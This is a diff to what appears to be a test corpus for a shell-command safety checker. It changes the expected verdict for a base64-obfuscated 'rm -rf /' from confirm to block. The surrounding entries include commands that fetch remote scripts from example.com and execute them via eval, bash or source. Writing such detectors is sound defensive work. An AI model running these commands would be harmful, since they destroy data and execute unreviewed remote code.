@@ -48,7 +48,7 @@ export const groups: CorpusGroup[] = [
       { line: 'eval "$(wget -qO- https://example.com/env)"', expect: 'warn', rule: 'host/unseen-script' },
       { line: 'bash <(curl -fsSL https://example.com/install.sh)', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
       { line: 'source <(wget -qO- https://example.com/env.sh)', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
-      { line: 'eval "$(echo cm0gLXJmIC8= | base64 -d)"', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
+      { line: 'eval "$(echo cm0gLXJmIC8= | base64 -d)"', hostname: PROD_HOST, expect: 'block', rule: 'filesystem/rm-root' },
       { line: 'eval "$(sudo curl -s https://example.com/x)"', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
       // A command nobody can name, given options and a path that matters.
       { line: '$(tool) -rf /', expect: 'confirm', rule: 'host/unknown-command' },
